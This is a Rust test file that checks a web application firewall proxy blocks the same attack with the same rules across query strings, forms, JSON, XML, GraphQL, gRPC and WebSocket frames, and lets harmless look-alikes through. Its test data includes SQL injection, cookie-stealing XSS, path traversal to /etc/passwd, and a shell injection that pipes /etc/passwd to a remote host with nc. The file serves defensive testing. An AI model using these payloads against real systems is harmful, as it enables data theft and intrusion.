//! One attack of a class in every place an application reads from, plain and compressed, over both versions of HTTP: it
//! is stopped by the same rules wherever it stands, the origin gets nothing of it, and its harmless twin passes byte
//! for byte. `tests/run everywhere --nocapture` prints the table.

use std::collections::BTreeSet;
use std::fmt::Write as _;

use bytes::Bytes;
use serde_json::{Value, json};
use tokio::io::AsyncWriteExt;

use crate::support::attack::receipt;
use crate::support::client::{Answer, Client, Entry, read_head, request, rest};
use crate::support::origin::{Origin, Spec, gzip};
use crate::support::proxy::{Proxy, Setup};
use crate::support::websocket::{self as ws, BINARY, TEXT};
use crate::support::{Http, grpc, within};

/// A class of attack, one of it, and a text that looks like it.
const CLASSES: [(&str, &str, &str); 4] = [
    ("SQL", "1' UNION SELECT password FROM users-- ", "Conan O'Brien's union of selected tables"),
    ("XSS", "<script>alert(document.cookie)</script>", "if 5 < 6 and 7 > 3, then script the alert"),
    ("shell", "x; cat /etc/passwd | nc 198.51.100.7 4444", "cats; dogs | birds are all nice, no?"),
    ("path", "../../../../../../etc/passwd", "reports/2026/../summary.pdf"),
];

/// How a body is compressed.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Packed {
    No,
    /// By its Content-Encoding.
    Body,
    /// By gRPC itself.
    Message,
}

/// Where a text stands.
struct Place {
    name: &'static str,
    media: &'static str,
    /// Target and body.
    make: fn(&str) -> (String, Vec<u8>),
    versions: &'static [Http],
    packed: &'static [Packed],
}

const BOTH: &[Http] = &Http::BOTH;
const PACKED: &[Packed] = &[Packed::No, Packed::Body];

fn body(bytes: impl Into<Vec<u8>>) -> (String, Vec<u8>) {
    ("/echo".to_owned(), bytes.into())
}

fn encoded(text: &str) -> String {
    form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

fn places() -> Vec<Place> {
    let of = |name, media, make| Place { name, media, make, versions: BOTH, packed: PACKED };
    vec![
        Place {
            packed: &[Packed::No],
            ..of("query", "", |text| (format!("/echo?a=1&q={}", encoded(text)), Vec::new()))
        },
        of("form", "application/x-www-form-urlencoded", |text| body(format!("a=1&q={}", encoded(text)))),
        of("multipart", "multipart/form-data; boundary=b0", |text| {
            body(format!(
                "--b0\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n\
                 --b0\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{text}\r\n--b0--\r\n"
            ))
        }),
        of("JSON", "application/json", |text| body(json!({"a": 1, "list": [{"q": text}]}).to_string())),
        of("JSON lines", "application/x-ndjson", |text| {
            body(format!("{}\n{}\n", json!({"index": {"_id": "1"}}), json!({"q": text})))
        }),
        of("XML", "application/xml", |text| {
            let text = text.replace('&', "&amp;").replace('<', "&lt;");
            body(format!("<?xml version=\"1.0\"?><a><b>1</b><q>{text}</q></a>"))
        }),
        of("GraphQL variable", "application/json", |text| {
            let query = "query ($q: String) { items(filter: $q) { id } }";
            body(json!({"query": query, "variables": {"q": text}}).to_string())
        }),
        of("GraphQL literal", "application/json", |text| {
            let literal = Value::from(text).to_string();
            body(json!({"query": format!("{{ items(filter: {literal}) {{ id }} }}")}).to_string())
        }),
        of("CSP report", "application/csp-report", |text| {
            body(json!({"csp-report": {"blocked-uri": "inline", "script-sample": text}}).to_string())
        }),
        of("protobuf", "application/x-protobuf", |text| body(grpc::message(text))),
        Place {
            versions: &[Http::H2],
            packed: &[Packed::No, Packed::Message],
            ..of("gRPC", "application/grpc", |text| body(grpc::message(text)))
        },
        Place {
            packed: &[Packed::No, Packed::Message],
            ..of("gRPC-web", "application/grpc-web+proto", |text| body(grpc::message(text)))
        },
    ]
}

impl Place {
    fn request(&self, text: &str, packed: Packed) -> (http::Request<crate::support::origin::Body>, Bytes) {
        let (target, mut body) = (self.make)(text);
        let mut fields = Vec::new();
        if !self.media.is_empty() {
            fields.push(("content-type", self.media));
        }
        if self.media.starts_with("application/grpc") {
            body = grpc::frame(&body, if packed == Packed::Message { "gzip" } else { "" });
            fields.push(("grpc-encoding", "gzip"));
        }
        if packed == Packed::Body {
            body = gzip(&body);
            fields.push(("content-encoding", "gzip"));
        }
        if packed != Packed::No {
            // The echo is what was sent, and says so.
            fields.push(("x-answer-coding", if packed == Packed::Body { "gzip" } else { "identity" }));
        }
        let method = if self.media.is_empty() { "GET" } else { "POST" };
        let body = Bytes::from(body);
        (request(method, &format!("https://origin.test{target}"), &fields, body.clone()), body)
    }
}

fn receipt_of(case: &str, answer: &Answer) -> String {
    let said = match answer.header("grpc-status") {
        "" => {
            assert_eq!(answer.status.as_u16(), 403, "{case}: {}", answer.text());
            answer.text()
        }
        status => {
            assert_eq!(status, "7", "{case}: {answer:?}");
            answer.header("grpc-message").to_owned()
        }
    };
    receipt(&said).unwrap_or_else(|| panic!("{case}: no receipt in {said}"))
}

/// The rules that an audit record names.
async fn rules(proxy: &Proxy, id: &str) -> BTreeSet<u64> {
    let record = proxy.record("a block", |record| record["id"] == id).await;
    assert_eq!(record["verdict"], "blocked", "{record}");
    let matches = record["waf"]["matches"].as_array().unwrap();
    matches.iter().map(|one| one["rule"].as_u64().unwrap()).collect()
}

struct Line {
    case: String,
    rules: BTreeSet<u64>,
}

async fn requests(
    origin: &Origin,
    proxy: &Proxy,
    (class, evil, mild): (&str, &str, &str),
    lines: &mut Vec<Line>,
) {
    let client = Client::new(Entry::HttpProxy, proxy);
    for http in Http::BOTH {
        for place in places().iter().filter(|place| place.versions.contains(&http)) {
            for packed in place.packed {
                let case = format!("{class:<5} {:<17} {packed:?} {http:?}", place.name);
                let before = origin.seen().len();
                let answer = client.send(http, "origin.test", place.request(evil, *packed).0).await;
                let id = receipt_of(&case, &answer);
                assert_eq!(origin.seen().len(), before, "{case}: the origin got it");
                lines.push(Line { case: case.clone(), rules: rules(proxy, &id).await });
                let (twin, sent) = place.request(mild, *packed);
                let answer = client.send(http, "origin.test", twin).await;
                assert_eq!(answer.status, 200, "{case}: {}", answer.text());
                let seen = origin.seen().pop().unwrap();
                assert!(seen.body == sent && seen.complete, "{case}: {seen:?}");
                assert!(answer.body == sent, "{case}: {} bytes came back", answer.body.len());
            }
        }
    }
}

async fn messages(proxy: &Proxy, (class, evil, mild): (&str, &str, &str), lines: &mut Vec<Line>) {
    let places: [(&str, u8, fn(&str) -> Vec<u8>); 4] = [
        ("WebSocket text", TEXT, |text| text.as_bytes().to_vec()),
        ("WebSocket JSON", TEXT, |text| json!({"type": "search", "q": text}).to_string().into_bytes()),
        ("WebSocket binary", BINARY, |text| grpc::message(text)),
        ("WebSocket parts", TEXT, |text| text.as_bytes().to_vec()),
    ];
    for (name, opcode, make) in places {
        let case = format!("{class:<5} {name:<17} No H1");
        let client = Client::new(Entry::HttpProxy, proxy);
        let mut stream = client.tls("origin.test", 443, &[Http::H1]).await.unwrap();
        let open = "GET /ws HTTP/1.1\r\nHost: origin.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
                    Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n";
        stream.write_all(open.as_bytes()).await.unwrap();
        assert!(read_head(&mut stream).await.unwrap().starts_with("HTTP/1.1 101"));
        for text in [mild, evil] {
            let payload = make(text);
            let parts: Vec<&[u8]> =
                payload.chunks(if name.ends_with("parts") { 4 } else { 1 << 20 }).collect();
            for (at, part) in parts.iter().enumerate() {
                let opcode = if at == 0 { opcode } else { ws::MORE };
                stream.write_all(&ws::masked(opcode, at + 1 == parts.len(), part)).await.unwrap();
            }
            if text == mild {
                // The echo gives back what it got, in the one frame that it became.
                let back = within("the echo", ws::read(&mut stream)).await.unwrap();
                assert!(back.payload == payload, "{case}");
            }
        }
        let told = ws::frames(&rest(&mut stream).await);
        assert_eq!(told.iter().map(ws::Frame::code).collect::<Vec<_>>(), [Some(1008)], "{case}");
        let id = receipt(&String::from_utf8_lossy(&told[0].payload[2..])).unwrap();
        lines.push(Line { case, rules: rules(proxy, &id).await });
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_attack_is_the_same_attack_wherever_it_stands() {
    let origin = Spec::tls(&["origin.test"]).start().await;
    let proxy = Setup::new().origin(&origin).start().await;
    let mut table = String::new();
    let mut wrong = Vec::new();
    for class in CLASSES {
        let mut lines = Vec::new();
        requests(&origin, &proxy, class, &mut lines).await;
        messages(&proxy, class, &mut lines).await;
        // What stopped it in the query is what must stop it anywhere.
        let wanted = lines[0].rules.clone();
        for line in &lines {
            let list = line.rules.iter().map(u64::to_string).collect::<Vec<_>>().join(" ");
            let _ = writeln!(table, "{} {list}", line.case);
            if !line.rules.is_superset(&wanted) {
                wrong.push(format!("{} by {list}, the query by {wanted:?}", line.case));
            }
        }
    }
    println!("{table}");
    assert!(wrong.is_empty(), "stopped by other rules:\n{}", wrong.join("\n"));
}
